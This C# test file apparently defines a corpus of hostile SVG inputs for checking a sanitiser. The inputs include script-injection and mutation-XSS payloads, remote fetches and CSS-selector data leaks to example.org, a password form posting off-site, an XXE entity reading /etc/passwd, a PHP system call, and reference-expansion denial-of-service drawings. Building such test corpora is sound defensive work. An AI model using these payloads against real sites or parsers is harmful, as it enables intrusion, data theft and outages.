namespace Diagnostics.Engine.Tests.ItemBank.Drawings;

/// <summary>
/// Drawings that try to do more than be drawn. The kinds come from public collections of attacks on SVG and on
/// sanitisers (mutation, integration points, namespaces, style, animation, references, entities); the texts are ours.
/// </summary>
internal static class HostileDrawings
{
    private const string Open =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" xmlns:h=\"http://www.w3.org/1999/xhtml\">";

    /// <summary>Short files that a browser would draw for hours.</summary>
    internal static readonly string[] Multiplying =
    [
        Copies("use"),
        Patterns(),
        In("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>"),
        SelfByStyle(),
    ];

    internal static readonly string[] All =
    [
        // Texts that HTML parses differently from XML.
        In("<title><![CDATA[</title></svg><img src=x onerror=alert(1)>]]></title>"),
        In("<desc><![CDATA[</desc></svg><script>alert(1)</script>]]></desc>"),
        In("<text><![CDATA[</text></svg><iframe src='https://example.org'></iframe>]]></text>"),
        In("<title>&lt;/title>&lt;/svg>&lt;img src=x onerror=alert(1)></title>"),
        In("<style><![CDATA[</style></svg><img src=x onerror=alert(1)>]]></style>"),
        In("<style>&lt;/style>&lt;img src=x onerror=alert(1)></style>"),
        In("<!--><img src=x onerror=alert(1)>-->"),
        In("<!-- <!- -><script>alert(1)</script> -->"),
        In("<title><style><![CDATA[</style></title><img src=x onerror=alert(1)>]]></style></title>"),
        In("<title><h:p>x</h:p></title>"),
        In("<desc><h:img src='x' onerror='alert(1)'/></desc>"),
        In("<desc><math><mtext><h:style>x</h:style></mtext></math></desc>"),
        In("<text aria-label='&quot;>&lt;/svg>&lt;img src=x onerror=alert(1)>'>x</text>"),
        In("<rect id='a&quot; onload=&quot;alert(1)'/>"),
        In("<p>вышли</p>"),
        In("<div><img src='x'/></div>"),
        In("<font color='red'>x</font>"),
        In("<table><tr><td>x</td></tr></table>"),
        // Drawings that run code.
        In("<script>alert(1)</script>"),
        In("<script href='https://example.org/a.js'/>"),
        In("<h:script>alert(1)</h:script>"),
        "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></s:svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "<svg xmlns='http://www.w3.org/2000/svg' onLoad='alert(1)'/>",
        In("<rect onclick='alert(1)'/>"),
        In("<circle onfocusin='alert(1)' tabindex='0' autofocus='autofocus'/>"),
        In("<rect h:onclick='alert(1)'/>"),
        In("<handler type='text/javascript'>alert(1)</handler>"),
        In("<foreignObject><h:body onload='alert(1)'/></foreignObject>"),
        In("<foreignObject><h:iframe srcdoc='&lt;script>alert(1)&lt;/script>'/></foreignObject>"),
        In("<switch><foreignObject><h:button>x</h:button></foreignObject></switch>"),
        In("<SCRIPT>alert(1)</SCRIPT>"),
        // Drawings that use animation.
        In("<a id='x'><animate attributeName='href' values='javascript:alert(1)'/><text>x</text></a>"),
        In("<rect><set attributeName='onmouseover' to='alert(1)'/></rect>"),
        In("<rect><animate attributeName='x' onbegin='alert(1)'/></rect>"),
        In("<use><animate attributeName='xlink:href' to='https://example.org/a.svg#x'/></use>"),
        In("<animateMotion path='M0 0' onend='alert(1)'/>"),
        In("<discard begin='0s'/>"),
        // Drawings that link elsewhere or fetch something.
        In("<a href='javascript:alert(1)'><text>x</text></a>"),
        In("<a xlink:href='java&#10;script:alert(1)'><text>x</text></a>"),
        In("<a href='https://example.org' target='_top' ping='https://example.org/p'><rect width='9999' height='9999'/></a>"),
        In("<use href='https://example.org/a.svg#x'/>"),
        In("<use href='data:image/svg+xml,&lt;svg/>#x'/>"),
        In("<use xlink:href=' https://example.org/#x'/>"),
        In("<image href='https://example.org/p.png'/>"),
        In("<image href='data:image/svg+xml;base64,AAAA'/>"),
        In("<feImage href='https://example.org/p.png'/>"),
        In("<filter id='f'><feImage href='https://example.org/p'/></filter><rect filter='url(#f)'/>"),
        In("<rect fill='url(https://example.org/p)'/>"),
        In("<rect fill='url( &quot;//example.org/p&quot; )'/>"),
        In("<rect fill=\"url('https://example.org/p#')\"/>"),
        In("<rect mask='URL(https://example.org/p)'/>"),
        In("<rect clip-path='u\\72l(https://example.org/p)'/>"),
        In("<rect cursor='url(https://example.org/p), auto'/>"),
        In("<rect fill='image-set(\"https://example.org/p\" 1x)'/>"),
        In("<rect fill='src(\"https://example.org/p\")'/>"),
        In("<linearGradient href='https://example.org/g.svg#g'/>"),
        In("<textPath href='https://example.org/#p'>x</textPath>"),
        In("<tref xlink:href='https://example.org/#t'/>"),
        In("<cursor xlink:href='https://example.org/c.png'/>"),
        In("<color-profile xlink:href='https://example.org/c.icc'/>"),
        In("<font-face-uri xlink:href='https://example.org/f.woff'/>"),
        In("<g xml:base='https://example.org/'><use href='#a'/></g>"),
        In("<h:base href='https://example.org/'/>"),
        In("<h:link rel='stylesheet' href='https://example.org/a.css'/>"),
        In("<h:meta http-equiv='refresh' content='0;url=https://example.org'/>"),
        In("<meta http-equiv='refresh' content='0;url=https://example.org'/>"),
        In("<h:form action='https://example.org'><h:input name='password'/></h:form>"),
        In("<form action='https://example.org'><input/></form>"),
        In("<h:img srcset='https://example.org/p.png 1x'/>"),
        In("<rect srcset='https://example.org/p.png 1x' src='https://example.org/p.png'/>"),
        In("<rect formaction='javascript:alert(1)'/>"),
        In("<video href='https://example.org/v'/><audio href='https://example.org/a'/><iframe src='https://example.org'/>"),
        In("<embed src='https://example.org'/><object data='https://example.org'/>"),
        // Drawings that use style.
        In("<style>@import 'https://example.org/a.css';</style>"),
        In("<style>@import url(https://example.org/a.css);</style>"),
        In("<style>@font-face { font-family: x; src: url(https://example.org/f.woff) }</style>"),
        In("<style>body { display: none }</style>"),
        In("<style>* { position: fixed; inset: 0 }</style>"),
        In("<style>input[value^='a'] { fill: url(https://example.org/a) }</style>"),
        In("<style>.a { fill: \\75rl(https://example.org/a) }</style><rect class='a'/>"),
        In("<style>.a { fill: url(/**/https://example.org/a) }</style><rect class='a'/>"),
        In("<style>.a { background-image: url(https://example.org/a) }</style><rect class='a'/>"),
        "<svg xmlns='http://www.w3.org/2000/svg' "
            + "style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999'><rect width='100%' "
            + "height='100%'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' style='overflow:visible' overflow='visible'><rect x='-5000' width='9999' height='9999'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' transform='scale(100)'><rect width='9' height='9'/></svg>",
        In("<rect style='background:url(https://example.org/p)'/>"),
        In("<rect style='fill:expression(alert(1))'/>"),
        In("<rect style='behavior:url(#default#time2)'/>"),
        In("<rect style='-moz-binding:url(https://example.org/x.xml#x)'/>"),
        // Drawings that use ids, names and classes of the page around them.
        In("<g id='after'/><g id='host'/><rect name='getElementById'/>"),
        In("<rect class='button-primary' data-action='finish'/>"),
        // Drawings that attack XML parsers.
        "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg>&a;</svg>",
        "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg><text>&a;</text></svg>",
        "<!DOCTYPE svg SYSTEM 'https://example.org/a.dtd'><svg/>",
        "<?xml-stylesheet href='https://example.org/a.css'?><svg xmlns='http://www.w3.org/2000/svg'/>",
        In("<?php system('id'); ?>"),
        In("<h:x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></h:x>"),
        "<svg xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='alert(1)'/></svg>",
        "<svg xmlns='urn:x'><script>alert(1)</script></svg>",
        "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
        "<svg/><script>alert(1)</script>",
        "<svg><title>не закрыт",
        In(string.Concat(Enumerable.Repeat("<g>", 2000)) + string.Concat(Enumerable.Repeat("</g>", 2000))),
        .. Multiplying,
    ];

    private static string In(string content) => $"{Open}{content}</svg>";

    private static string Copies(string element) =>
        In(
            string.Concat(
                Enumerable
                    .Range(0, 7)
                    .Select(level =>
                        $"<g id='l{level}'>{string.Concat(Enumerable.Repeat(level == 0 ? "<rect/>" : $"<{element} href='#l{level - 1}'/>", 10))}</g>"
                    )
            )
        );

    private static string Patterns() =>
        In(
            string.Concat(Enumerable.Range(0, 12).Select(level => $"<pattern id='p{level}'><rect fill='url(#p{level + 1})'/></pattern>"))
                + "<rect fill='url(#p0)'/>"
        );

    // A drawing whose pattern refers to itself, but only through its style.
    private static string SelfByStyle() =>
        In("<style>.a { fill: url(#p) }</style><pattern id='p'><rect class='a'/></pattern><rect class='a'/>");
}
